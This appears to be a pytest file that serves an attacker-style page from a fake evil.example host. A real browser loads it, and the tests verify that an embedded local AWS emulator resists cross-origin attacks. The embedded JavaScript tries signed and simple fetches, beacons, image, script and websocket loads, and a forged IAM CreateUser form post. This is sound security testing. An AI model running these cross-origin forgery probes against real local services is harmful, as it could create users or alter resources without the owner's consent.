"""A real browser opens a page that attacks the embedded AWS in every way that a page has; nothing gets in."""

from __future__ import annotations

import json
import queue
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.browser import browser_command, needs_browser
from tests.local_aws.conftest import BUCKET, SECONDS, Account
from tests.local_aws.test_gate import CREATE_FUNCTION, FUNCTIONS, assert_unharmed
from tests.local_aws.test_ministack import port_of

pytestmark = needs_browser

# Each attack says "read: ..." when the page sees an answer, "sent" when the browser hides it, else why it failed.
PAGE = """<!doctype html><iframe name="sink"></iframe><script>
const endpoints = ENDPOINTS, body = BODY, functions = FUNCTIONS, tried = {};
const attempt = async (name, act) => {
  try { tried[name] = await act(); } catch (error) { tried[name] = String(error); }
};
const ask = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "sent" : "read: " + answer.status;
};
const outcome = (target, good, bad) => new Promise((yes, no) => {
  target.addEventListener(good, () => yes("read"));
  target.addEventListener(bad, () => no(bad));
});
const load = (tag, url) => {
  const element = document.createElement(tag), result = outcome(element, "load", "error");
  element.src = url;
  document.body.append(element);
  return result;
};
const submit = url => {
  const form = Object.assign(document.createElement("form"), {action: url, method: "POST", target: "sink"});
  for (const [name, value] of [["Action", "CreateUser"], ["Version", "2010-05-08"], ["UserName", "evil"]])
    form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(form);
  form.submit();
  return outcome(document.querySelector("iframe"), "load", "error");
};
const headers = {
  "Content-Type": "application/x-amz-json-1.1",
  "X-Amz-Target": "AWSStepFunctions.ListStateMachines",
  Authorization: "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/s/aws4_request, SignedHeaders=host, Signature=0",
};
(async () => {
  for (const url of endpoints) {
    await attempt("signed " + url, () => ask(url + functions, {method: "POST", body, headers}));
    await attempt("simple " + url, () => ask(url + functions, {method: "POST", body}));
    await attempt("no-cors " + url, () => ask(url + functions, {method: "POST", body, mode: "no-cors"}));
    await attempt("get " + url, () => ask(url + "/"));
    await attempt("put " + url, () => ask(url + "/evil", {method: "PUT"}));
    await attempt("beacon " + url, async () => String(navigator.sendBeacon(url + functions, body)));
    await attempt("image " + url, () => load("img", url + "/"));
    await attempt("script " + url, () => load("script", url + "/"));
    await attempt("websocket " + url, () => outcome(new WebSocket(url.replace("http", "ws") + "/"), "open", "error"));
    await attempt("form " + url, () => submit(url + "/"));
  }
  await fetch("/tried", {method: "POST", body: JSON.stringify(tried)});
})();
</script>"""


class Site(ThreadingHTTPServer):
    """The web site that attacks: its page, and what the page reports of its attempts."""

    daemon_threads = True
    page: bytes
    tried: queue.Queue[dict[str, str]]


class Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        self.answer(self.server.page)

    def do_POST(self) -> None:
        self.server.tried.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer(b"")

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


@pytest.fixture
def site(account: Account) -> Iterator[Site]:
    variables = ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SAGEMAKER")
    filled = {
        "ENDPOINTS": [account.aws.environment[variable] for variable in variables],
        "BODY": CREATE_FUNCTION.decode(),
        "FUNCTIONS": FUNCTIONS,
    }
    page = PAGE
    for word, value in filled.items():
        page = page.replace(word, json.dumps(value))
    with Site(("127.0.0.1", 0), Handler) as server:
        server.page, server.tried = page.encode(), queue.Queue()
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server
        server.shutdown()


def browser(folder: Path, *arguments: str) -> list[str]:
    """Its command line; with all names standing for this machine, as a site's owner can have its own do."""
    return browser_command(folder, "--host-resolver-rules=MAP evil.example 127.0.0.1", *arguments)


def test_a_page_gets_nothing_and_changes_nothing(account: Account, site: Site, tmp_path: Path) -> None:
    with subprocess.Popen(
        browser(tmp_path, "--remote-debugging-port=0", f"http://evil.example:{site.server_port}/"),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as process:
        try:
            tried = site.tried.get(timeout=2 * SECONDS)
        finally:
            process.terminate()
    assert len(tried) == 2 * 10
    blocked = {name: result for name, result in tried.items() if name.split()[0] not in ("no-cors", "form", "beacon")}
    assert not {name: result for name, result in blocked.items() if "read" in result}
    assert_unharmed(account)


@pytest.mark.parametrize("variable", ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SAGEMAKER"])
@pytest.mark.parametrize("name", ["evil.example", "127.0.0.1"])
def test_a_page_of_the_servers_own_origin_is_a_refusal(
    account: Account, tmp_path: Path, variable: str, name: str
) -> None:
    account.client("s3").put_object(Bucket=BUCKET, Key="page.html", Body=b"secret", ContentType="text/html")
    url = f"http://{name}:{port_of(account.aws.environment[variable])}/{BUCKET}/page.html"
    command = browser(tmp_path, "--dump-dom", url)
    shown = subprocess.run(command, capture_output=True, text=True, timeout=2 * SECONDS, check=True).stdout
    assert "The embedded AWS" in shown
    assert "secret" not in shown
